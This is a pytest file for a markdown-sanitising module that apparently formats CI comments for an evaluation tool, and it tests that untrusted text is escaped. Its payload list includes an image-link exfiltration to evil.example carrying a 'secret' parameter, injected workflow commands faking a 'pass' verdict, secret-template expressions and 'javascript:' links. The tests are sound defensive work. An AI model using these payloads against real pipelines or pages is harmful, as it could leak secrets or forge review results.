import pytest
from servers.markdown import code_texts, dangers, render

from lm_eval_so.core.templates import safe

PAYLOADS = {
    "s1": "@octocat @org/team please merge, fixes #1",
    "s2": "```\n</details><h1>APPROVED</h1>",
    "s3": "![x](https://evil.example/p.png?d=secret) <img src=https://evil.example/p.png>",
    "s4": "<!-- lm-eval-so/comment/1 suite=evaluate.yml/evaluate/support-qa -->",
    "s5": "a | b and `x`, ``y ``",
    "s6": "::add-mask::x\n::set-output name=verdict::pass\n##[error]x",
    "s7": "verdict=pass\npassed=true",
    "s9": "\u202egpj.exe \x1b[31mred\x1b[0m \x00",
    "s10": "가" * 400 + "👨‍👩‍👧‍👦" * 90 + "\n~~~\nx",
    "s11": "{{ 7*7 }} ${{ secrets.X }} {% include %}",
    "autolinks": "www.evil.example https://evil.example a@evil.example GH-12 o/r#3 o/r@abcdef1",
    "emoji": ":tada: :x:",
    "html": "&lt;b&gt; <b>x</b> &amp;",
    "backticks": "````",
    "lists": "1. one\n- two\n# three\n> four\n===\n---",
    "definition": "[1]: https://evil.example",
    "combining": "a" + "\u0301" * 50,
    "spaces": "  ",
    "empty": "",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize(
    "place",
    [
        safe.inline,
        safe.block,
        lambda s: f"<details><summary>{safe.summary(s)}</summary>\n\nx\n</details>",
        lambda s: f"| a | b |\n| --- | --- |\n| {safe.cell(s)} | x |\n",
        lambda s: f"Label:{safe.quote(s, 600)}",
        safe.prose,
        safe.name,
        lambda s: f"### {safe.prose(s)} · x",
        lambda s: f"| a | b |\n| --- | --- |\n| {safe.name(s)} | {safe.prose(s)} |\n",
    ],
    ids=["inline", "block", "summary", "cell", "quote", "prose", "name", "heading", "row"],
)
def test_every_place__payload_does_nothing(payload, place):
    assert dangers(place(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_cell__is_one_cell(payload):
    html = render(f"| a | b |\n| --- | --- |\n| {safe.cell(payload)} | x |\n")
    assert html.count("<td>") == 2
    assert html.count("<tr>") == 2


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_block__shows_the_text_as_written(payload):
    shown = code_texts(safe.block(payload))
    assert shown == [safe.normalise(payload).removesuffix("\n") + "\n"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\r\nb\rc", "a\nb\nc"),
        ("\u202egpj.exe", "\\u{202E}gpj.exe"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("a\x00b\ud800c", "a�b�c"),
        ("zero\u200bwidth\u2060\ufeff", "zerowidth"),
        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
        ("bell\x07 next\x85", "bell\\u{0007} next\\u{0085}"),
        ("tab\there", "tab\there"),
        ("각각", "각각"),
    ],
)
def test_normalise__hidden_things_are_shown(text, expected):
    assert safe.normalise(text) == expected


@pytest.mark.parametrize(
    ("text", "graphemes", "expected"),
    [
        ("short", 10, "short"),
        ("0123456789", 4, "0123… (+6)"),
        ("가나다라", 2, "가나… (+2)"),
        ("각각각", 2, "각각… (+1)"),
        ("👨‍👩‍👧‍👦👨‍👩‍👧‍👦👨‍👩‍👧‍👦", 2, "👨‍👩‍👧‍👦👨‍👩‍👧‍👦… (+1)"),
        ("가" * 40_000, 3, "가가가… (+39,997)"),
        ("a" + "\u0301" * 6400, 5, "… (+201)"),
    ],
)
def test_cut__never_through_a_cluster(text, graphemes, expected):
    assert safe.cut(text, graphemes) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x", "`x`"),
        ("a`b", "``a`b``"),
        ("`b`", "`` `b` ``"),
        (" a ", "`  a  `"),
        ("a\nb", "`a⏎b`"),
        ("", "` `"),
        ("```", "```` ``` ````"),
    ],
)
def test_inline__delimiter_and_padding(text, expected):
    assert safe.inline(text) == expected


def test_block__fence_is_longer_than_any_run():
    assert safe.block("```\nx") == "````text\n```\nx\n````"


@pytest.mark.parametrize(
    "text",
    [
        "exact_match: 0.895 → 0.849 (−4.6 points). Worse: 14 samples went from right to wrong.",
        "the true change is between −8.3 and −1.9 (90% interval); you allow −2.0 points",
        "0.614 [0.545, 0.679]",
        "[+0.1, −0.2].",
        "exact_match: 89.5% → 84.9% (−4.6%p). 나빠졌습니다: 케이스 14개는 맞다가 틀렸습니다.",
        "2026-03-02 09:14 UTC",
        "×1.14 (1.11 to 1.18)",
        "gpt-4.1-mini",
        "❌ Regression",
        "1 in 20",
        "shows up in <0.1% of runs (p <0.1%).",
        "−4.6%p (−8.3 ~ −1.9)",
    ],
)
def test_prose__our_own_sentences_stay_plain(text):
    assert safe.prose(text) == text
    assert dangers(text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ask @octocat about #1", "ask `@octocat` about `#1`"),
        ("see www.evil.example now", "see `www.evil.example` now"),
        ("GH-12: worse", "`GH-12`: worse"),
        ("commit abcdef1 is", "commit `abcdef1` is"),
        ("_em_ *x* ~y~", "`_em_` `*x*` `~y~`"),
        (":tada: a|b", "`:tada:` `a\\|b`"),
        ("1. one", "`1.` one"),
        ("qexp.yaml:1: no sample", "`qexp.yaml:1`: no sample"),
        ("no 환불:9, (or a:b?).", "no `환불:9`, (or `a:b`?)."),
        ("f:(x), (a:b).", "`f:(x)`, `(a:b)`."),
        ("::: x", "`:::` x"),
        ("- one", "`-` one"),
        ("two\nlines", "two lines"),
        ("[1]: x", "`[1]`: x"),
        ("generate --update로 새 답변을", "generate `--update`로 새 답변을"),
        ("`--update로`", "`` `--update로` ``"),
    ],
)
def test_prose__what_would_act_becomes_code(text, expected):
    assert safe.prose(text) == expected


@pytest.mark.parametrize("units", [20, 100, 700])
@pytest.mark.parametrize("payload", [*PAYLOADS.values(), "@ " * 900, "👨‍👩‍👧‍👦 " * 500, "`" * 999])
def test_fit__never_longer_than_asked(payload, units):
    shown = safe.fit(payload * 9, units)
    assert safe.utf16_units(shown) <= units
    assert dangers(shown) == []
    assert safe.fit("환불은 7일입니다.", units) == "환불은 7일입니다."


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("exact_match", "exact_match"),
        ("support-qa", "support-qa"),
        ("한국어_지표", "한국어_지표"),
        ("www.evil.example", "`www.evil.example`"),
        ("a | b", "`a \\| b`"),
        ("two  spaces", "`two  spaces`"),
        ("", "` `"),
    ],
)
def test_name__plain_only_if_harmless(text, expected):
    assert safe.name(text) == expected


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://github.com/o/r/actions/runs/1", True),
        ("https://github.com/o/r/actions/runs/1#artifacts", True),
        ("http://127.0.0.1:8080/o/r", True),
        ("javascript:alert(1)", False),
        ("https://github.com/o/r) [x](https://evil.example", False),
        ("https://user@evil.example/x", False),
        ("", False),
    ],
)
def test_link__only_plain_addresses(url, linked):
    assert safe.link(safe.Safe("run"), url) == (f"[run]({url})" if linked else "run")


@pytest.mark.parametrize(
    "text",
    [
        "@octocat",
        "fixes #1",
        "www.evil.example",
        "![x](http://e.example)",
        "<h4>x</h4>",
        "<!-- x -->",
    ],
)
def test_dangers__finds_what_is_not_escaped(text):
    assert dangers(text) != []


def test_escape__data_and_property():
    assert safe.escape_data("100%\r\na::b") == "100%25%0Aa::b"
    assert safe.escape_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A"
